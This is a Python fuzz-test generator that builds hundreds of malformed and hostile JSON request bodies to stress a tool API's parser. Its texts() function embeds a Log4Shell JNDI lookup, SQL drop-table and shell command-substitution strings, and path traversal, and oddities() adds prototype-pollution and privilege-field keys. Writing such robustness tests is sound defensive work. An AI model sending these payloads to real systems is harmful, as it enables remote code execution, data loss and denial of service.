"""Three hundred bodies that nobody honest would send, the same ones every time."""

import json
import random
from collections.abc import Iterator

FINE = '{"tool": "drum-generator", "input": {"model": "drumgen"}}'
SPEECH = '{"tool": "text-to-speech", "input": {"model": "voicevendor-tts", "prompt": %s}, "webhook": %s}'
DEPTHS = (10, 100, 500, 1_000, 1_023, 1_024, 1_025, 2_000, 10_000, 100_000, 130_000)
MANY = (10, 1_000, 10_000)
MUTATIONS = 180
SEED = 20_260_131


def bodies() -> Iterator[tuple[str, bytes]]:
    """What it is, and the bytes."""
    yield from deep()
    yield from wide()
    yield from numbers()
    yield from texts()
    yield from oddities()
    yield from mutations()


def deep() -> Iterator[tuple[str, bytes]]:
    """Brackets within brackets, whole and half."""
    for depth in DEPTHS:
        yield f"{depth} brackets, open", b"[" * depth
        yield f"{depth} brackets", b"[" * depth + b"]" * depth
        nested = "[" * depth + "]" * depth
        yield f"{depth} brackets in the input", FINE.replace('"drumgen"', f'"drumgen", "x": {nested}').encode()
        objects = '{"a":' * depth + "1" + "}" * depth
        yield f"{depth} objects as the input", f'{{"tool": "drum-generator", "input": {objects}}}'.encode()


def wide() -> Iterator[tuple[str, bytes]]:
    """Very many members, alike or not."""
    for count in MANY:
        names = ", ".join(f'"{number}": 1' for number in range(count))
        yield f"{count} unknown fields", FINE.replace('"drumgen"', f'"drumgen", {names}').encode()
        yield f"{count} unknown members", f"{{{names}, {FINE[1:]}".encode()
        yield f"{count} times the same", FINE.replace('"tool"', '"tool": 5, ' * count + '"tool"').encode()
        yield f"{count} times the same field", FINE.replace('"model"', '"seed": 1, ' * count + '"model"').encode()
        yield f"{count} elements for a prompt", (SPEECH % (json.dumps([0] * count), '"x"')).encode()
    yield "a name of 200,000 letters", FINE.replace('"model"', f'"{"n" * 200_000}": 1, "model"').encode()
    colliding = ",".join(f'"{number * (2**61 - 1)}":1' for number in range(5_000))
    yield "names that collide in a poor hash", f"{{{colliding}}}".encode()


def numbers() -> Iterator[tuple[str, bytes]]:
    """Numbers at and beyond every edge."""
    for number in (
        "1e309", "-1e309", "1e-99999", "1e99999999999999999999", "9" * 309, "9" * 4_301, "-" + "9" * 100_000,
        "0." + "9" * 200_000, "1" + "0" * 250_000, "0e0", "-0e-0", "1E+2", "4.9e-324", "2.2250738585072011e-308",
        "1.7976931348623157e308", "1.7976931348623159e308", "18446744073709551616", "-9223372036854775809", "00",
        "1e1e1",
    ):  # fmt: skip
        yield f"the seed {number[:24]}", FINE.replace('"drumgen"', f'"drumgen", "seed": {number}').encode()
        yield f"the tool {number[:24]}", FINE.replace('"drum-generator"', number).encode()


def texts() -> Iterator[tuple[str, bytes]]:
    """Texts that upset readers, printers, shells and databases."""
    nasty = (
        "\\u0000", "\\ud800", "\\udfff\\ud800", "\\uFFFF", "\\x", "\x00", "\x1f", "\x7f", "\u2028", "%n%s%p%x",
        "{{7*7}}",
        "${jndi:ldap://x.test/a}", "'; drop table accounts; --", "$(reboot)", "`id`", "../" * 500, "\u0335" * 20_000,
        "\u202e" * 1_000, "a" * 250_000, "😀" * 60_000, "\ufdfa" * 3_001, "İ" * 3_000, "--help", "-" * 3_000,
    )  # fmt: skip
    for text in nasty:
        yield (
            f"the prompt {text[:12]!r}",
            (SPEECH % (f'"{text}"', '"https://8.8.8.8/"')).encode("utf-8", "surrogatepass"),
        )
        yield f"the webhook {text[:12]!r}", (SPEECH % ('"x"', f'"https://{text}/"')).encode("utf-8", "surrogatepass")
        yield f"the tool {text[:12]!r}", FINE.replace("drum-generator", text).encode("utf-8", "surrogatepass")


def oddities() -> Iterator[tuple[str, bytes]]:
    """What is left: other encodings, other languages, other people's fields."""
    for encoding in ("utf-8-sig", "utf-16", "utf-16-le", "utf-32", "utf-7", "cp037"):
        yield encoding, FINE.encode(encoding)
    for other in (
        b"<?xml version='1.0'?><x/>",
        b"tool=drum-generator&input[model]=drumgen",
        b"%PDF-1.4",
        b"\x1f\x8b\x08",
        b"--x\r\nContent-Disposition: form-data; name=tool\r\n\r\ny\r\n--x--",
        b"tool: drum-generator\n",
    ):
        yield f"{other[:12]!r}", other
    for name in (
        "__proto__",
        "constructor",
        "__class__",
        "$ref",
        "id",
        "account_id",
        "status",
        "credits",
        "cost",
        "owner",
    ):
        yield f"the member {name}", FINE.replace('{"tool"', f'{{"{name}": {{"x": 1}}, "tool"').encode()
        yield f"the field {name}", FINE.replace('{"model"', f'{{"{name}": {{"x": 1}}, "model"').encode()


def mutations() -> Iterator[tuple[str, bytes]]:
    """A fine body with bytes lost, doubled, swapped or made up."""
    chance = random.Random(SEED)
    for number in range(MUTATIONS):
        body = bytearray((SPEECH % ('"a heron"', '"https://8.8.8.8/"')).encode())
        for _ in range(chance.randint(1, 6)):
            place = chance.randrange(len(body))
            kind = chance.randrange(4)
            if kind == 0:
                body[place] = chance.randrange(256)
            elif kind == 1:
                del body[place : place + chance.randint(1, 9)]
            elif kind == 2:
                body[place:place] = body[place : place + 20]
            else:
                body[place:place] = chance.choice(
                    [b'"', b"{", b"}", b"[", b"]", b",", b":", b"\\", b"\xff", b"null", b"1e9"]
                )
        yield f"mutation {number}", bytes(body)
